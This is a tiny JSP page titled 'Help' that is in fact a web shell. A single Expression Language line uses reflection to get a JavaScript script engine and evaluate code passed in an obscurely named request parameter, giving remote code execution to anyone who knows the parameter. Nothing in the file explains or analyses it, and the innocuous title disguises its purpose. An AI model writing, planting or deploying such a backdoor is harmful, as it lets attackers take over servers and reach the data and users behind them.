<%@ page contentType="text/html;charset=UTF-8" isELIgnored="false" %>
<html><head><title>Help</title></head><body>
${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param["na0a4e"])}
</body></html>
